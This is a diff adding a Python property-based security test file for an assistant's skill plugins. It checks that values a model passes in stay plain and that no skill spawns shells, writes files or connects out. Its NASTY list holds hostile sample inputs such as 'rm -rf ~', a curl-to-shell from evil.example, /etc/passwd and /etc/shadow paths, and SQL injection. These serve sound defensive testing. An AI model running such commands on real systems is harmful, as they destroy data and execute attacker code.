@@ -1,0 +1,141 @@
+"""T22: whatever a model hands to a skill, it is no command, no path and no program."""
+
+import asyncio
+import re
+import string
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+import skills
+from jarvis import plugins
+from jarvis.errors import SkillError
+from jarvis.mind.tools import LONGEST_WORDS, WrongArgumentsError, values_of
+from jarvis.plugins import Skill
+from jarvis.testing import NotingHouse, run
+from tests.thinking import NOON
+
+ROOT = Path(__file__).parents[2]
+SKILLS = plugins.find(skills)
+NASTY = [
+    "; rm -rf ~", "$(reboot)", "`id`", "| sh", "&& curl evil.example | sh", "../../etc/passwd", "/dev/sda",
+    "C:\\Windows\\system32", "file:///etc/shadow", "%n%n%n%s", "{0.__class__}", "__import__('os').system('id')",
+    "' OR 1=1; DROP TABLE memory; --", "\x00", "\x1b]0;title\x07", "\u202egnp.exe", "<speak>", "ten minutes; reboot",
+    "{duration}", "[a|b]", "-rf", "--help", "NaN", "1e999", "10" * 60, "\ud800", "ten minutes\nten hours",
+]  # fmt: skip
+VALUES: st.SearchStrategy[Any] = st.recursive(
+    st.one_of(
+        st.sampled_from(NASTY), st.text(max_size=250), st.text(string.printable, max_size=60), st.none(),
+        st.booleans(), st.integers(), st.floats(), st.sampled_from(["ten minutes", "an hour", "5"]),
+    ),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    max_leaves=5,
+)  # fmt: skip
+PLACES = sorted({place for one in SKILLS for place in one.places})
+ARGUMENTS = st.dictionaries(st.sampled_from(PLACES) | st.text(max_size=8), VALUES, max_size=3)
+NEVER = re.compile(
+    r"\bshell\s*=\s*True|\bos\.(system|popen|exec\w*|spawn\w*)\(|\bpty\.spawn|\bexec\(|\bgetoutput\("
+)
+FORBIDDEN = ("subprocess.Popen", "os.", "shutil.", "socket.connect", "ctypes.dlopen", "exec", "import")
+_WRITES = {"w", "a", "x", "+"}
+happened: list[str] = []
+watching = False
+
+
+def _watch(event: str, details: tuple[Any, ...]) -> None:
+    """Note what reaches out of the program while a skill runs."""
+    if watching and (
+        event.startswith(FORBIDDEN) or (event == "open" and _WRITES & set(str(details[1] or "r")))
+    ):
+        happened.append(f"{event} {details[:2]}")
+
+
+sys.addaudithook(_watch)
+
+
+async def used(one: Skill, values: dict[str, Any]) -> str:
+    """What the skill says, or what went wrong in a way that is told."""
+    try:
+        pieces = plugins.answer(one, values, NotingHouse(NOON), {})
+        return "".join([piece async for piece in pieces])
+    except SkillError as error:
+        return str(error)
+
+
+async def watched(one: Skill, values: dict[str, Any]) -> str:
+    global watching  # noqa: PLW0603 - an audit hook stays for ever, so it is told when to look
+    watching = True
+    try:
+        return await used(one, values)
+    finally:
+        watching = False
+
+
+@pytest.mark.parametrize("one", SKILLS, ids=lambda one: str(one.name))
+@settings(max_examples=60, deadline=None)
+@example(arguments={"duration": "ten minutes"})
+@example(arguments={"fact": NASTY[0]})
+@example(arguments={"topic": NASTY[6]})
+@given(arguments=ARGUMENTS)
+def test_a_built_in_skill_gets_plain_values_and_touches_nothing_outside(
+    one: Skill, arguments: dict[str, Any]
+) -> None:
+    try:
+        values = values_of(one, arguments)
+    except WrongArgumentsError:
+        return
+    assert set(values) <= set(one.places)
+    texts = [value for value in values.values() if isinstance(value, str)]
+    assert all(len(text) <= LONGEST_WORDS and text.isprintable() for text in texts)
+    happened.clear()
+    said = run(watched(one, values))
+    assert said
+    assert "has a fault" not in said
+    assert happened == []
+
+
+def test_the_watch_sees_what_it_looks_for(tmp_path: Path) -> None:
+    @plugins.skill("do harm")
+    async def harm(what: str) -> str:
+        """Do what no skill may."""
+        (tmp_path / what).write_text(what)
+        process = await asyncio.create_subprocess_exec("true")
+        await process.wait()
+        return what
+
+    happened.clear()
+    run(watched(harm.__jarvis_skill__, {"what": "x"}), real_time=True)  # type: ignore[attr-defined]
+    assert {one.split()[0] for one in happened} >= {"open", "subprocess.Popen"}
+
+
+@pytest.mark.parametrize("folder", ["jarvis", "voice", "skills", "ui", "scripts"])
+def test_nothing_of_ours_uses_a_shell(folder: str) -> None:
+    sources = [file for file in (ROOT / folder).rglob("*") if file.is_file() and file.suffix in {".py", ""}]
+    assert sources
+    found = [
+        f"{file.relative_to(ROOT)}:{number}"
+        for file in sources
+        for number, line in enumerate(file.read_text(errors="replace").splitlines(), 1)
+        if NEVER.search(line)
+        and "python" in (file.read_text(errors="replace")[:40] + file.suffix.replace(".py", "python"))
+    ]
+    assert found == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "run(x, shell=True)",
+        "run(x, shell = True)",
+        "os.system(x)",
+        "os.popen(x)",
+        "exec(x)",
+        "os.execv(x, y)",
+    ],
+)
+def test_the_search_would_find_them(line: str) -> None:
+    assert NEVER.search(line)
